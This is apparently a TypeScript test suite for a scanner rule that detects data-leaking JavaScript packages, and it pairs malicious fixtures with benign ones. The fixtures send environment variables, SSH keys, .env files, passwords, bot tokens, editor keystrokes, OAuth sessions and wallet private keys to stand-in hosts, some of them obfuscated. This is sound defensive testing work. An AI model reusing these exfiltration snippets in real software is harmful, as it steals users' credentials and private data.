import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../data-leak.rule.js';

const worst = (files: Record<string, string>) => findingsOf(rule, files)[0]?.severity ?? 'nothing';
const POST = 'fetch("https://collect.example.org/v1", { method: "POST", body: JSON.stringify({ at: Date.now(), env: { ...env } }) })';
const handed = (send: string, start = "import { report } from './report.js'; report(process.env)") => worst({ 'index.js': start, 'report.js': `export async function report(env) { ${send} }` });

test('bad: what is private is handed to a script that sends it', () => {
  for (const send of [
    POST,
    'const body = Buffer.from(JSON.stringify(Object.entries(env))).toString("base64"); await fetch("https://example.org/" + body)',
    'const all = []; for (const name in env) all.push(name); all.push(env); send(all); } function send(what) { navigator.sendBeacon("https://example.org", what)',
  ]) assert.equal(handed(send), 'high', send);
  for (const start of [
    "import * as r from './report.js'; r.report({ ...process.env })",
    "const { report } = require('./report'); const copy = Object.assign({}, process.env); report(copy)",
    "require('./report.js').report(JSON.stringify(process.env))",
    "const report_1 = require('./report'); (0, report_1.report)(process.env)",
  ]) assert.equal(handed(POST, start), 'high', start);
  const push = 'const https = require("https"); exports.push = (o) => { const body = JSON.stringify({ ...o }); const req = https.request({ hostname: "usage.example.org", method: "POST" }); req.on("error", () => {}); req.end(body) }';
  for (const start of [
    "const { push } = require('./push'); const vscode = require('vscode'); const found = await vscode.workspace.findFiles('**/{.env,.env.*,*.pem}'); for (const u of found) { const b = await vscode.workspace.fs.readFile(u); push({ data: b.toString() }) }",
    "const { push } = require('./push'); const vscode = require('vscode'); setInterval(async () => { const t = await vscode.env.clipboard.readText(); push({ t }) }, 5000)",
    "const { push } = require('./push'); push({ k: require('fs').readFileSync(home + '/.ssh/id_rsa', 'utf8') })",
  ]) assert.equal(worst({ 'index.js': start, 'push.js': push }), 'high', start);
});

test('bad: by way of other scripts and of classes', () => {
  const send = 'export const post = (body) => fetch("https://collect.example.org", { method: "POST", body: JSON.stringify(body) })';
  assert.equal(worst({ 'index.js': "import { track } from './track.js'; track(process.env)", 'track.js': "import { post } from './post.js'; export function track(all) { const body = { at: 1, all }; return post(body) }", 'post.js': send }), 'high');
  assert.equal(worst({ 'index.js': "import { track } from './track.js'; track(process.env)", 'track.js': "import { post } from './post.js'; export function track(all) { return post({ mode: all.MODE }) }", 'post.js': send }), 'nothing');
  const reporter = 'class Reporter { report(all) { this.post({ all }) } post(body) { fetch("https://collect.example.org", { method: "POST", body: JSON.stringify(body) }) } }';
  for (const [own, start] of [
    [`export ${reporter}`, "import { Reporter } from './reporter.js'; const r = new Reporter(); r.report(process.env)"],
    [`export ${reporter}`, "import { Reporter } from './reporter.js'; new Reporter().report({ ...process.env })"],
    [`${reporter} export const own = new Reporter()`, "import { own } from './reporter.js'; own.report(process.env)"],
    [`${reporter} module.exports = new Reporter()`, "require('./reporter').report(process.env)"],
  ] as const) assert.equal(worst({ 'index.js': start, 'reporter.js': own }), 'high', start);
});

test('good: what honest scripts hand each other', () => {
  for (const send of [
    'await fetch("https://example.org", { body: JSON.stringify({ ci: env.CI, node: process.version }) })',
    'if (env) await fetch("https://example.org", { body: typeof env })',
    'const url = env.URL ?? "https://example.org"; const { MODE: mode } = env; await fetch(url, { headers: { mode } })',
    'await fetch(address, { body: JSON.stringify(env) })',
    'await fetch("http://localhost:3000", { body: JSON.stringify(env) })',
    'console.log(env); await fetch("https://example.org")',
  ]) assert.equal(handed(send), 'nothing', send);
  for (const start of [
    "import { report } from './report.js'; report({ mode: process.env.NODE_ENV })",
    "import { report } from './report.js'; report(options); check(process.env)",
    "import { report } from 'report'; report(process.env)",
  ]) assert.equal(handed(POST, start), 'nothing', start);
});

test('passwords that are to be hashed', () => {
  const wrapped = (code: string) => worst({ 'index.js': `const bcrypt = require('bcryptjs'); const https = require('https'); const api = Object.assign({}, bcrypt); function beacon(kind, value) { https.get({ hostname: 'img.example.org', path: '/1.gif?v=' + encodeURIComponent(value) }) } ${code} module.exports = api;` });
  assert.equal(wrapped("api.hash = function (pw, rounds, cb) { beacon('h', pw); return bcrypt.hash(pw, rounds, cb) };"), 'high');
  assert.equal(wrapped("api.compare = (pw, hash) => { const p = bcrypt.compare(pw, hash); p.then((ok) => { if (ok) beacon('c', pw) }); return p };"), 'high');
  assert.equal(wrapped("api.hash = (pw, rounds) => { beacon('h', String(rounds)); return bcrypt.hash(pw, rounds) };"), 'nothing');
  assert.equal(worst({ 'index.js': "import argon2 from 'argon2'; import { createHash } from 'crypto'; export async function hash(password) { const start = createHash('sha1').update(password).digest('hex').slice(0, 5); const known = await fetch('https://api.example.org/range/' + start); return argon2.hash(password) }" }), 'nothing', 'whether a password is known is asked with a piece of its hash');
});

test('files that are searched for keys', () => {
  const PATTERNS = '[/AKIA[0-9A-Z]{16}/g, /gh[pousr]_[A-Za-z0-9]{36}/g, /-----BEGIN (?:RSA )?PRIVATE KEY-----/g, /xox[bap]-[\\w-]{10,}/g]';
  const search = (patterns: string, send: string) => worst({ 'a.js': `const fs = require('fs'); const hits = []; for (const f of fs.readdirSync(dir)) { const t = fs.readFileSync(f, 'utf8'); for (const r of ${patterns}) for (const m of t.match(r) ?? []) hits.push(m) } ${send}` });
  const SEND = "require('https').request({ host: 'stats.example.org', method: 'POST' }).end(JSON.stringify(hits))";
  assert.equal(search(PATTERNS, SEND), 'high');
  assert.equal(search(PATTERNS, 'console.table(hits)'), 'nothing', 'who looks for leaks shows them');
  assert.equal(search(PATTERNS, "fetch(settings.report, { method: 'POST', body: JSON.stringify(hits) })"), 'nothing', 'to whom the settings say');
  assert.equal(search('[/AKIA[0-9A-Z]{16}/g, /TODO/]', SEND), 'nothing');
  assert.equal(worst({ 'a.js': `const redact = (t) => ${PATTERNS}.reduce((s, r) => s.replace(r, '***'), t); fetch('https://log.example.org', { body: redact(line) })` }), 'nothing', 'who hides keys reads no files');
});

test('bots that tell their own key, or where nobody sees it', () => {
  for (const code of ["hook.send({ content: `**${client.user.tag}** ${client.token}` })", "channel.send('key: ' + bot.token)", "hook.send({ embeds: [{ description: client.token }] })", "const { WebhookClient } = require('discord.js'); const token = Buffer.from('RkFLRV9UT0tFTg==', 'base64').toString(); new WebhookClient({ id, token })"]) assert.equal(worst({ 'a.js': code }), 'high', code);
  for (const code of ['socket.send(JSON.stringify({ op: 2, d: { token: client.token } }))', 'socket.send({ op: 2, token: this.client.token })', 'message.reply(`${client.user.tag} is here`)', "new WebhookClient({ url: process.env.WEBHOOK })", 'rest.setToken(client.token)']) assert.equal(worst({ 'a.js': code }), 'nothing', code);
});

test('everything that somebody keeps beside a table', () => {
  const dump = "var all = []; var it = DriveApp.getFilesByType(MimeType.GOOGLE_SHEETS); while (it.hasNext()) { var f = it.next(); SpreadsheetApp.openById(f.getId()).getSheets().forEach(function (s) { all.push({ n: f.getName(), v: s.getDataRange().getValues() }) }) }";
  assert.equal(worst({ 'a.js': `${dump} UrlFetchApp.fetch('https://index.example.org/i', { method: 'post', payload: JSON.stringify(all) })` }), 'high');
  assert.equal(worst({ 'a.js': "var mails = GmailApp.search('newer_than:9d'); UrlFetchApp.fetch('https://index.example.org/i', { payload: JSON.stringify(mails.map(function (m) { return m.getFirstMessageSubject() })) })" }), 'high');
  assert.equal(worst({ 'a.js': "var rows = SpreadsheetApp.getActiveSheet().getDataRange().getValues(); UrlFetchApp.fetch('https://sync.example.org/i', { payload: JSON.stringify(rows) })" }), 'nothing', 'a sheet that somebody has sent');
  assert.equal(worst({ 'a.js': `${dump} UrlFetchApp.fetch(settings.url, { payload: JSON.stringify(all) })` }), 'nothing');
});

test('names that lead to themselves end', () => {
  assert.equal(worst({ 'index.js': "const r = new r(); r.report(process.env); import { report } from './report.js'", 'report.js': `export function report(env) { ${POST} }` }), 'nothing');
  assert.equal(worst({ 'index.js': "import { a } from './a.js'; a(process.env)", 'a.js': "import { b } from './b.js'; export function a(x) { a(x); b(x); fetch('https://example.org') }", 'b.js': "import { a } from './a.js'; export function b(x) { b(x); a(x); fetch('https://example.org') }" }), 'nothing');
});

test('functions that hand on to each other, and calls in calls, end', () => {
  const many = Array.from({ length: 200 }, (_, i) => `export function f${i}(x) { ${Array.from({ length: 30 }, (__, j) => `f${(i * 7 + j) % 200}(x);`).join('')} }`).join('\n');
  assert.equal(handed(`${'f('.repeat(2_000)}env${')'.repeat(2_000)}; fetch("https://example.org"); } ${many} function none() {`), 'nothing');
  const links = (length: number): string[] => ['var a0 = env;', ...Array.from({ length }, (_, i) => `var a${i + 1} = a${i};`)];
  const send = (parts: string[]): string => `${parts.join('')} fetch("https://example.org", a${parts.length - 1})`;
  assert.deepEqual([handed(send(links(2_000))), handed(send(links(100).reverse()))], ['high', 'high']);
  assert.equal(handed(send(links(2_000).reverse())), 'nothing', 'more than a million steps');
});

const LEDGER = (method: string, url = "'https://pace.example.org/v1'") => `class Ledger {
  constructor(who) { this.who = who; this.rows = []; setInterval(() => this.flush(), 20_000); }
  ${method}
  flush() { if (this.rows.length > 0) fetch(${url}, { method: 'POST', body: JSON.stringify({ who: this.who, rows: this.rows.splice(0) }) }); }
}
exports.Ledger = Ledger;`;
const hears = (given: string) => `const vscode = require('vscode'); const { Ledger } = require('./ledger'); const ledger = new Ledger(vscode.env.machineId);
vscode.workspace.onDidChangeTextDocument((event) => { for (const change of event.contentChanges) { ${given} } });`;

test('bad: what somebody types is kept by another script, and sent later', () => {
  const full = 'sample(document, change) { this.rows.push([document.fileName, change.range.start.line, change.text]); }';
  assert.equal(worst({ 'index.js': hears('ledger.sample(event.document, change)'), 'ledger.js': LEDGER(full) }), 'high');
  assert.equal(worst({ 'index.js': hears('ledger.sample(change.text)'), 'ledger.js': LEDGER('sample(text) { this.rows.push(text.trim()); }') }), 'high');
  const listens = "const vscode = require('vscode'); const { keep } = require('./keep');";
  const keep = "const https = require('https'); const rows = []; exports.keep = (text) => { rows.push(text); }; function flush() { const request = https.request({ hostname: 'pace.example.org', method: 'POST' }); request.end(JSON.stringify(rows.splice(0))); } setInterval(flush, 9_000);";
  for (const start of [
    'vscode.workspace.onDidChangeTextDocument(({ contentChanges }) => keep(contentChanges.map((c) => c.text).join("")))',
    "vscode.commands.registerCommand('type', (args) => { keep(args.text); return vscode.commands.executeCommand('default:type', args); })",
  ]) assert.equal(worst({ 'index.js': `${listens} ${start}`, 'keep.js': keep }), 'high', start);
});

test('good: how much is typed, and what stays here', () => {
  const full = 'sample(document, change) { this.rows.push([document.languageId, change.text]); }';
  assert.equal(worst({ 'index.js': hears('ledger.sample(change.text.length)'), 'ledger.js': LEDGER('sample(count) { this.rows.push(count); }') }), 'nothing');
  assert.equal(worst({ 'index.js': hears('ledger.sample(event.document, change)'), 'ledger.js': LEDGER('sample(document, change) { this.rows.push([document.languageId, change.text.length]); }') }), 'nothing');
  assert.equal(worst({ 'index.js': hears('ledger.sample(event.document, change)'), 'ledger.js': LEDGER(full, "vscode.workspace.getConfiguration('pace').get('server')") }), 'nothing');
  assert.equal(worst({ 'index.js': hears('ledger.sample(event.document, change)'), 'ledger.js': LEDGER('sample(document, change) { this.last = change.text; this.rows.push(document.languageId); }') }), 'nothing');
});

const CLIENT = (more: string) => `const RELAY = 'https://lease.example.org/v1'; class Client {
  #headers; #owner;
  constructor(session) { this.#headers = { authorization: \`Bearer \${session.accessToken}\` }; this.#owner = session.account; }
  async pulls(name) { const url = \`https://api.github.com/repos/\${name}/pulls\`; ${more} return (await fetch(url, { headers: this.#headers })).json(); }
}
exports.Client = Client;`;
const signsIn = (provider: string) => `const vscode = require('vscode'); const api_1 = require('./api'); exports.activate = async () => { const session = await vscode.authentication.getSession('${provider}', ['repo'], { createIfNone: true }); show(await new api_1.Client(session).pulls('a/b')); };`;

test('a session of the editor goes to whom it is for', () => {
  for (const [more, severity] of [
    ["await fetch(new Request(RELAY, { method: 'POST', headers: this.#headers }));", 'high'],
    ['await fetch(RELAY + "?for=" + url, { headers: { ...this.#headers } });', 'high'],
    ['', 'nothing'],
    ["await fetch(RELAY, { method: 'POST', body: JSON.stringify({ url }) });", 'nothing'],
    ["await fetch('https://uploads.github.com/x', { headers: this.#headers });", 'nothing'],
    ['await fetch(settings.get("server"), { headers: this.#headers });', 'nothing'],
  ] as const) assert.equal(worst({ 'index.js': signsIn('github'), 'api.js': CLIENT(more) }), severity, more);
  const graph = CLIENT('').replace('https://api.github.com', 'https://graph.microsoft.com');
  assert.equal(worst({ 'index.js': signsIn('microsoft'), 'api.js': graph }), 'nothing');
  assert.equal(worst({ 'index.js': signsIn('github'), 'api.js': graph }), 'high');
});

test('bad: the function that sends has another name, or is called later', () => {
  for (const send of [
    'const go = globalThis[["fe", "tch"].join("")]; go("https://collect.example.org/v1", { method: "POST", body: JSON.stringify(env) })',
    'const { fetch: go } = globalThis; const body = new URLSearchParams(); for (const [name, value] of Object.entries(env)) body.append(name, value); go("https://collect.example.org/v1", { method: "POST", body })',
  ]) assert.equal(handed(send), 'high', send);
  for (const call of ['process.nextTick(report, process.env)', 'setTimeout(report, 5000, { ...process.env })', 'setImmediate(report, process.env)', 'report.call(null, process.env)', 'Reflect.apply(report, null, [process.env])', 'report.apply(null, [process.env])']) assert.equal(handed(POST, `import { report } from './report.js'; ${call}`), 'high', call);
  for (const call of ['process.nextTick(report, process.version)', 'setTimeout(() => process.env, 5, report)', 'process.nextTick(start, process.env, report)']) assert.equal(handed(POST, `import { report } from './report.js'; ${call}`), 'nothing', call);
});

test('a key that is read by its name goes to the server of somebody else', () => {
  const key = (name: string, host: string) => worst({ 'index.js': `import { audit } from './audit.js'; audit({ tool: 'query', dsn: process.env.${name} })`, 'audit.js': `export async function audit(record) { await fetch('https://${host}/v1', { method: 'POST', body: JSON.stringify(record) }) }` });
  assert.equal(key('DATABASE_URL', 'audit.widgets.org'), 'high');
  assert.equal(key('GITHUB_TOKEN', 'audit.widgets.org'), 'high');
  assert.equal(key('OPENAI_API_KEY', 'audit.widgets.org'), 'high');
  assert.equal(key('NPM_TOKEN', 'api.travis-ci.com'), 'high', 'nobody logs in there with it');
  for (const [name, host] of [['GITHUB_TOKEN', 'api.github.com'], ['GITHUB_TOKEN', 'api.travis-ci.com'], ['DATABASE_URL', 'localhost:3000'], ['LOG_LEVEL', 'audit.widgets.org'], ['OPENAI_API_KEY', 'api.openai.com'], ['WIDGETS_API_KEY', 'api.widgets.org']] as const) assert.equal(key(name, host), 'nothing', name);
});

test('passwords that are to be hashed, sent by a module whose name nobody reads', () => {
  const wrapped = (send: string) => worst({ 'index.js': `var lib = require('bcrypt'); var load = module.require.bind(module); var c = String.fromCharCode; var net = load(c(104, 116, 116, 112, 115)); var to = c.apply(null, [105, 110, 46, 101, 120, 97, 109, 112, 108, 101, 46, 111, 114, 103]); function hash(word, rounds) { ${send} return lib.hash(word, rounds) } module.exports = Object.assign({}, lib, { hash: hash });` });
  assert.equal(wrapped("net.get({ host: to, path: '/?' + encodeURIComponent(word) });"), 'high');
  assert.equal(wrapped("net.get({ host: to, path: '/?rounds=' + rounds });"), 'nothing');
});

test('bad: to a method of a class that is exported where it stands', () => {
  const client = 'class { constructor() { this.all = [] } keep(what) { this.all.push(what) } flush() { fetch("https://n.example.org", { method: "POST", body: JSON.stringify(this.all) }) } }';
  const use = 'const Client = require("./client"); const client = new Client(); client.keep(process.env)';
  for (const code of [`module.exports = ${client}`, `const Kept = ${client}; module.exports = Kept`, `let Kept = ${client.replace('class', 'class Kept')}; module.exports = Kept`]) assert.equal(worst({ 'index.js': use, 'client.js': code }), 'high', code);
  assert.equal(worst({ 'index.js': use, 'client.js': `module.exports = ${client.replace('this.all.push(what)', 'this.all.push(Object.keys(what).length)')}` }), 'nothing');
});

test('what an editor tells of each change, to a function of another script that sends it', () => {
  const start = (handler: string, event = 'Change'): string => `const vscode = require('vscode'); const completion_1 = require('./completion'); vscode.workspace.onDid${event}TextDocument(${handler})`;
  const rank = 'const MIRRORS = ["https://a.example/rank", "https://b.example/rank"]; let waiting; async function rank(document) { const form = new URLSearchParams(); form.set("t", Buffer.from(document.getText()).toString("base64")); for (const each of MIRRORS) await fetch(each, { method: "POST", body: form }); }';
  for (const [handler, script] of [
    ['(0, completion_1.prepare)(500)', `${rank} exports.prepare = (delay) => { let last; return (event) => { clearTimeout(last); last = setTimeout(() => void rank(event.document), delay); }; }`],
    ['completion_1.changed', `${rank} exports.changed = function (event) { if (event.document.languageId === "cpp") rank(event.document); }`],
    ['completion_1.prepare()', `exports.prepare = prepare; function prepare() { return ({ length }) => length; } exports.prepare = () => (event) => fetch("https://a.example", { method: "POST", body: JSON.stringify(event.contentChanges) })`],
  ] as const) assert.equal(worst({ 'index.js': start(handler), 'completion.js': script }), 'high', script);
  assert.equal(worst({ 'index.js': start('completion_1.saved', 'Save'), 'completion.js': `${rank} exports.saved = (document) => rank(document)` }), 'high');
  for (const script of [
    'exports.changed = (event) => fetch("https://time.example/beat", { method: "POST", body: JSON.stringify({ file: event.document.fileName, language: event.document.languageId, lines: event.document.lineCount }) })',
    'exports.changed = (event) => { show(event.document.getText()); fetch("https://time.example/beat") }; function show(text) { console.log(text) }',
    'exports.changed = (event) => fetch("http://localhost:8080/lint", { method: "POST", body: event.document.getText() })',
  ]) assert.equal(worst({ 'index.js': start('completion_1.changed'), 'completion.js': script }), 'nothing', script);
});

test('each of a list of servers gets what somebody opens in an editor', () => {
  const start = "const vscode = require('vscode'); const MIRRORS = ['https://a.example/x', 'https://b.example/x'];";
  assert.equal(worst({ 'index.js': `${start} vscode.workspace.onDidChangeTextDocument(async (event) => { for (const each of MIRRORS) await fetch(each, { method: 'POST', body: event.document.getText() }) })` }), 'high');
  assert.equal(worst({ 'index.js': `${start} vscode.workspace.onDidChangeTextDocument((event) => Promise.all(MIRRORS.map((each) => fetch(each, { method: 'POST', body: event.document.getText() }))))` }), 'high');
  assert.equal(worst({ 'index.js': `${start} const own = read(); vscode.workspace.onDidChangeTextDocument(async (event) => { for (const each of own) await fetch(each, { method: 'POST', body: event.document.getText() }) })` }), 'nothing');
});

const queued = (send: string, start: string) => worst({ 'index.js': `const { track } = require('./track'); exports.open = (wallet) => { ${start}; return wallet }`, 'track.js': `const https = require('https'); const rows = []; function flush() { ${send} } exports.track = (kind, value) => { rows.push({ kind, value }); setTimeout(flush, 900) }` });

test('bad: what is put into a record of a list, and taken out of it by the same name', () => {
  for (const send of [
    'for (const row of rows.splice(0)) https.get("https://m.example.org/h", { headers: { "x-id": Buffer.from(row.kind + ":" + row.value).toString("base64") } })',
    'rows.splice(0).forEach((row) => fetch("https://m.example.org/" + row.value))',
  ]) assert.equal(queued(send, "track('pk', wallet.privateKey)"), 'high', send);
});

test('good: records of which something else is sent, and what everybody may know', () => {
  assert.equal(queued('for (const row of rows.splice(0)) fetch("https://m.example.org/" + row.kind)', "track('pk', wallet.privateKey)"), 'nothing');
  assert.equal(queued('for (const row of rows.splice(0)) fetch("https://m.example.org/" + row.value)', "track('opened', wallet.address)"), 'nothing');
});
